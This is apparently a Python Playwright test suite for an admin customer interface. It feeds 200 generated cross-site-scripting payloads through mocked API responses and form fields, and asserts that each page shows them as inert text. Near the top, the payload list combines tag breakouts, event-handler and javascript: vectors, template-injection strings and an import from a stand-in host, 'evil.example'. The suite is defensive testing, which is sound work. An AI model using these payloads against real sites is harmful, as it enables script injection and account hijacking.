"""Whatever somebody once typed is text on every page: nothing of it runs, loads or leads anywhere."""

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest
from playwright.sync_api import Dialog, Page, Route, expect

from tests.browser.conftest import ACTIVITIES, LIST, Visitor, change_url, starting

Customer = dict[str, Any]

_RUN = ("alert(1)", "confirm`1`", "print()", "window.hit=1", "import('//evil.example/x')")
_TAGS = (
    "<script>{}</script>",
    "<img src=/evil onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}'>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<style>@import '/evil';</style><b onclick={}>",
    "<form action='javascript:{}'><button>",
)
_BREAKS = (
    "",
    "\"'></textarea></title></script>",
    "{{{{constructor.constructor('x')()}}}}${{x}}\\x3c",
    "%3C&lt;\u202e]]>-->",
)
STRINGS = [end + tag.format(run) for end in _BREAKS for tag in _TAGS for run in _RUN]
"""Every way out of a text, to every element that runs something, five times over."""
ALL = "\n".join(STRINGS)
_FIELDS = ("customerId", "name", "email", "phone", "company", "status", "address", "notes")
RECORD: Customer = dict.fromkeys(_FIELDS, ALL) | {
    "tags": STRINGS,
    "registrationDate": ALL,
    "lastModified": ALL,
    "version": 1,
}
"""What no schema lets through: a page must not rely on one."""


_OF_ACTIVITIES = ("activityId", "customerId", "kind", "subject", "text", "due", "owner", "ownerSubject", "created")
ACTIVITY: Customer = dict.fromkeys(_OF_ACTIVITIES, ALL) | {"lastModified": ALL, "done": True, "version": 1}


def _entry(version: int, kind: str, record: Customer = RECORD) -> dict[str, Any]:
    changes = {name: {"old": f"{ALL} old", "new": value} for name, value in record.items() if name != "version"}
    if "tags" in record:
        changes["tags"]["old"] = STRINGS[:3]
        changes["name"]["new"] += str(version)
    return {"version": version, "at": ALL, "by": ALL, "kind": kind, "changes": changes}


def _problem(**members: Any) -> dict[str, Any]:
    return {"title": ALL, "detail": ALL, "status": 400} | members


def _answer(route: Route) -> None:
    """Answer as an API would in which every value is hostile."""
    method, path = route.request.method, urlsplit(route.request.url).path.removeprefix("/api/customers")
    answers: dict[tuple[str, str], tuple[int, Any]] = {
        ("GET", ""): (200, {"items": [RECORD], "nextCursor": None, "total": 1, "matches": 1, "matchesExact": True}),
        ("GET", "/actions"): (200, {"items": [RECORD | {"kind": kind, "at": ALL} for kind in ("created", ALL)]}),
        ("GET", "/x/history"): (
            200,
            {"items": [_entry(1, "created"), _entry(2, "changed"), _entry(3, ALL)], "nextCursor": None},
        ),
        ("GET", "/x"): (200, RECORD | {"customerId": "x"}),  # another id would be that of a survivor
        ("PATCH", "/x"): (412, _problem(current=RECORD | dict.fromkeys(_FIELDS[1:], f"{ALL} theirs") | {"version": 2})),
        ("POST", ""): (400, _problem(errors={"name": [ALL], ALL: STRINGS})),
        ("DELETE", "/x"): (204, None),
    }
    default = (409, _problem(holderId=ALL, errors={"email": [ALL]}))
    if path == "/facets":
        route.continue_()
        return
    status, body = answers.get((method, path), default)
    route.fulfill(status=status, content_type="application/json", body="" if body is None else json.dumps(body))


def _answer_activities(route: Route) -> None:
    """Answer the same of activities; those in the trash went there with a customer."""
    path = urlsplit(route.request.url).path.removeprefix("/api/activities")
    items = [ACTIVITY | {"trashedWith": ALL}]
    answers: dict[str, Any] = {
        "": {"items": items, "nextCursor": None, "total": 1, "matches": 1, "matchesExact": True},
        "/x": ACTIVITY | {"activityId": "x"},
        "/x/history": {"items": [_entry(1, "created", ACTIVITY), _entry(2, ALL, ACTIVITY)], "nextCursor": None},
    }
    if path not in answers:
        route.continue_()
        return
    route.fulfill(status=200, content_type="application/json", body=json.dumps(answers[path]))


@pytest.fixture
def hostile(as_role: Callable[..., Visitor]) -> Visitor:
    """Return an administrator's browser whose customers are all hostile, and that complains of whatever runs."""
    visitor = as_role("admin")
    visitor.refusals |= {400, 409, 412}
    page = visitor.page
    page.on("dialog", lambda dialog: _expect_a_question(visitor, dialog))
    page.on("request", lambda request: _expect_ours(visitor, request.url))
    page.add_init_script(
        "addEventListener('securitypolicyviolation', (event) => console.error('CSP', event.blockedURI))"
    )
    page.route("**/api/customers**", _answer)
    page.route("**/api/activities**", _answer_activities)
    return visitor


def _expect_a_question(visitor: Visitor, dialog: Dialog) -> None:
    if dialog.type != "beforeunload":
        visitor.complaints.append(f"dialog {dialog.type}")
    dialog.accept()


def _expect_ours(visitor: Visitor, url: str) -> None:
    parts = urlsplit(url)
    if parts.scheme != "data" and not parts.path.startswith(("/admin/", "/api/", "/static/")):
        visitor.complaints.append(f"asked for {url}")


def _unharmed(page: Page, part: str) -> None:
    """Fail unless a part of the page holds a string as text, and nothing of it became an element or ran."""
    page.wait_for_load_state("networkidle")
    expect(page.locator(part).filter(has_text="onerror=alert(1)>")).not_to_have_count(0)
    made = "#container :is(main script, iframe, [src^='/evil'], [onerror], [onload], [onclick], a[href^='javascript'])"
    expect(page.locator(made)).to_have_count(0)
    assert page.evaluate("window.hit") is None


def test_there_are_enough() -> None:
    """Two hundred, each its own."""
    assert len(set(STRINGS)) == 200


_SHOWN = (
    ("/admin/", ".actionlist"),
    (LIST, "#result_list"),
    (f"{LIST}?q={quote(ALL[:1500])}&o={quote(STRINGS[0])}&p={quote(STRINGS[1])}", "#result_list"),
    (f"{LIST}x/change/?_changelist_filters={quote(ALL[:1500])}", ".breadcrumbs"),
    (f"{LIST}x/delete/", "#deleted-objects"),
    (f"{LIST}x/history/", "#change-history"),
    (f"{LIST}trash/", "#trash"),
    (ACTIVITIES, "#result_list"),
    (f"{ACTIVITIES}x/change/", "h2.object-title"),
    (f"{ACTIVITIES}x/history/", "#change-history"),
    (f"{ACTIVITIES}trash/", "#trash .help"),
)
"""Addresses of pages, and which part of each shows the strings."""


def test_what_is_shown(hostile: Visitor) -> None:
    """Each page shows the strings, and does nothing else with them."""
    for path, part in _SHOWN:
        hostile.page.goto(path)
        hostile.page.locator(part).first.wait_for(state="attached")

        _unharmed(hostile.page, part)


def test_what_is_said(hostile: Visitor) -> None:
    """Errors, hints, conflicts, dialogs, drafts and messages show them as well."""
    page = hostile.page
    page.goto(f"{LIST}add/")
    page.fill("#id_name", "Ann")
    page.fill("#id_email", "ann@example.com")
    page.wait_for_selector(".field-email .duplicates a")
    _unharmed(page, ".field-email .duplicates")
    page.fill("#id_notes", ALL[:5000])
    page.click("[name=_save]")
    page.wait_for_selector(".field-name .errorlist")
    _unharmed(page, ".field-name .errorlist")
    _unharmed(page, ".errorlist.nonfield")

    page.goto(f"{LIST}x/change/")
    page.wait_for_selector("#customer_form:not([aria-busy])")
    page.fill("#id_name", STRINGS[5])
    for name, value in {"email": "ann@example.com", "phone": "", "company": STRINGS[6], "tags": STRINGS[0]}.items():
        page.fill(f"#id_{name}", value)  # a control of one line makes another value of ALL, which the rules refuse
    page.click("[name=_save]")
    page.wait_for_selector(".conflict")
    _unharmed(page, ".conflict")
    page.reload()
    page.click("text=Restore them")
    _unharmed(page, "h2.object-title")

    page.goto(f"{LIST}x/history/")
    page.click(".revert >> nth=0")
    page.wait_for_selector("dialog")
    _unharmed(page, "dialog")
    page.click("dialog [type=submit]")
    page.wait_for_selector("ul.messagelist")
    _unharmed(page, "ul.messagelist")

    page.goto(LIST)
    page.click("#result_list .deletelink")
    page.wait_for_selector("dialog")
    _unharmed(page, "dialog")

    page.goto(f"{LIST}x/delete/")
    page.click("#delete-form input[type=submit]")
    page.wait_for_url(f"**{LIST}")
    page.click("button.undo")
    page.wait_for_selector("ul.messagelist li.error")
    _unharmed(page, "ul.messagelist")


def test_what_is_stored(
    page: Page, add_customer: Callable[..., Customer], api: Callable[[str | None], httpx.Client]
) -> None:
    """What the API does let through comes back as it was typed."""
    customer = add_customer(name=STRINGS[5], company=STRINGS[10], address=ALL[:400], tags=["<svg onload=alert(1)>"])
    notes = "\n".join(STRINGS[:90])
    api("editor").patch(f"/customers/{customer['customerId']}", json={"notes": notes}).raise_for_status()
    page.goto(change_url(customer))
    page.wait_for_selector("#customer_form:not([aria-busy])")
    expect(page.locator("#id_company")).to_have_value(STRINGS[10])
    expect(page.locator("#id_notes")).to_have_value(notes)

    page.fill("#id_company", "")
    page.click("[name=_continue]")

    expect(page.locator("ul.messagelist li").first).to_have_text(starting(f"The customer “{STRINGS[5]}” was changed"))
    _unharmed(page, "ul.messagelist")
